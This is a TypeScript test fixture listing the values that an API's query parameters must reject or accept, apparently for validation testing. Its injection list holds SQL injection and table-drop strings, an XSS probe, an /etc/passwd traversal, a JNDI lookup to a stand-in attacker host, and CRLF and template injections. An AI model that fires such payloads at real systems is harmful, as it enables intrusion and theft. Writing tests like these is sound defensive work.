/** Values that a REST parameter must reject, and others that it must accept, as they appear in the URL. */
export interface Values {
  readonly bad: readonly string[];
  readonly good: readonly string[];
}

const digits = '1'.repeat(400);

/** In place of any value: markup, SQL, paths, templates, control characters, other alphabets. */
const injections = [
  `' or 1=1 --`,
  `1; drop table districts`,
  `1) union select sha256 from api_keys --`,
  `pg_sleep(10)`,
  `<script>alert(1)</script>`,
  `../../etc/passwd`,
  '$\u007bjndi:ldap://evil.example/a}',
  '{{7*7}}',
  '__proto__',
  'constructor',
  '\u0007\u001b[31m',
  'line\r\nset-cookie: a=b',
  '\u202e\ufeff',
  '💥'.repeat(50),
  'x'.repeat(4_000),
].map(encodeURIComponent);

const numbers = [
  'abc',
  'NaN',
  'Infinity',
  '-Infinity',
  '1e400',
  '1e1',
  '0x10',
  '1,5',
  '٣',
  '1_0',
  '%2B',
  '%2B1',
  '%2B-1',
  '--1',
  '-',
  '1.2.3',
  '44°',
  '44;1',
  `44'--`,
  'undefined',
];

export const VALUES = {
  lat: {
    bad: [...numbers, ...injections, digits, '90.0000001', '-90.1', '181', '1%202', 'true', 'null', '[]', '{}'],
    good: [
      '90',
      '-90',
      '0',
      '-0',
      '42',
      '042',
      '42.5',
      '42.123456789012345',
      '42.1234567890123456789',
      '.5',
      '5.',
      '%2044',
      '44%20',
      '44.%20',
    ],
  },
  long: {
    bad: [...numbers, ...injections, digits, '180.1', '-180.0000001', '540', 'true', 'null', '[]', '{}'],
    good: ['180', '-180', '0', '-0', '-98.0', '-98.25', '-98.', '-.5', '%20-98%20', '-98.0000000000000000001'],
  },
  date: {
    bad: [
      ...injections,
      ...['2023-02-30', '2023-2-3', 'today', 'now', 'infinity', '-infinity', 'epoch', 'J2451187', '20240203'],
      ...['02/03/2024', '0000-01-01', '10000-01-01', '2024-11-05T00:00', `2024-11-05'--`, '2024-13-01', '2024-00-10'],
      ...['2023-02-29', '2024-11-05x', '٢٠٢٤-01-01', '-2024-01-01', '2024-W01', '2024-11', '2024-11-05%20x'],
    ],
    good: ['2024-02-29', '2024-11-05', '%202024-11-05%20', '0001-01-01', '1900-01-01', '9999-12-31'],
  },
  state: {
    bad: [...injections, 'Vermont', 'New%20York', 'V', 'VTX', '50', 'V-', 'V1', `V'`, 'ÑÑ', 'vt,nh', 'Zz'],
    good: ['VT', 'vt', 'Pr', '%20VT%20'],
  },
  year: {
    bad: [
      ...injections,
      ...['1e9', '-1', '24', '0000', '20245', '1.5', '2024.0', '20%2024', '0x7e8', '٢٠٢٤', '2024-11', '1000000000'],
    ],
    good: ['2024', '2018', '%202024'],
  },
  text: {
    bad: ['a'.repeat(201), '%20'],
    good: [
      "'; drop table districts; --",
      '%25',
      '_%5C%25',
      '12 12 12',
      '%F0%9F%92%A5',
      '%E2%80%AE12',
      '99999999999 Main St',
      'a'.repeat(200),
    ],
  },
  types: { bad: [...injections, 'Contact', 'Race,,Race', 'x'.repeat(500)], good: ['Race', 'race,%20candidate'] },
  after: { bad: ['x'.repeat(101)], good: ['start', '%20'] },
  wait: { bad: ['-1', '26', '1.5', '1e1', 'x'], good: ['0', '%200'] },
  first: { bad: ['0', '-1', '101', '1.5', '1e1', 'x'], good: ['1', '20', '20%20'] },
  page: {
    bad: [
      ...injections,
      ...['0', '-1', '1.5', '1e9', '1e3', '1000001', '9007199254740993', '1%20OR%201=1', 'Infinity', digits],
      ...['%2B1', '0x1', 'last', '٣'],
    ],
    good: ['', '1', '01', '%201', '999999', '1000000'],
  },
  collections: {
    bad: [
      ...injections,
      'contact,secret',
      ',',
      'contact,',
      ',contact',
      'contact,,social',
      Array(33).fill('contact').join(','),
      'contact;social',
      'contact%20social',
    ],
    good: ['', 'contact', 'social,contact', 'CONTACT', 'contact%2Csocial', 'social,+contact', 'social,%20contact'],
  },
  include: {
    bad: [...injections, 'edge_distance,contact', ',', Array(33).fill('edge_distance').join(',')],
    good: ['', 'edge_distance', 'EDGE_distance', '%20edge_distance,edge_distance', 'precincts,edge_distance'],
  },
  type: {
    bad: [...injections, 'General,Bogus', ',', 'General,,Primary', Array(10_000).fill('a').join(',').slice(0, 6_000)],
    good: ['General', 'general,PRIMARY', 'Recall', 'Special'],
  },
  language: { bad: [...injections, 'e', 'es_MX', 'x'.repeat(36)], good: ['es', 'ES-mx', '%20zh-Hant', 'none'] },
  office_level: { bad: [...injections, 'Federal,Bogus', ',', 'Federal,,Local'], good: ['Federal', 'state,LOCAL'] },
  office_branch: { bad: [...injections, 'Legislative,Bogus', ','], good: ['Judicial', 'legislative,Executive'] },
  district_type: { bad: [...injections, 'County,Bogus', ','], good: ['County', 'City-town,School%20District'] },
} satisfies Record<string, Values>;

/** Invalid encodings, to be inserted into any address. */
export const ENCODINGS = ['%E0%A4%A', '%zz', '%ff', '%00', '%', '%c0%af', '%ED%A0%80', '%f4%90%80%80'];

export const KEYS: readonly (readonly [string, string])[] = [
  ['an empty key', ''],
  ['a word', 'key'],
  ['a prefix alone', 'bg_abcdefgh_'],
  ['an unknown key', `bg_abcdefgh_${'A'.repeat(43)}`],
  ['a key that is a character longer', `bg_abcdefgh_${'A'.repeat(44)}`],
  ['a key that is a character shorter', `bg_abcdefgh_${'A'.repeat(42)}`],
  ['ten thousand characters', 'k'.repeat(10_000)],
  ['two keys', `bg_abcdefgh_${'A'.repeat(43)}, bg_abcdefgh_${'A'.repeat(43)}`],
  ['SQL', `' or '1'='1`],
  ['the name of a prototype', '__proto__'],
  ['a bearer token', 'Bearer abc'],
  ['white space', '   '],
];
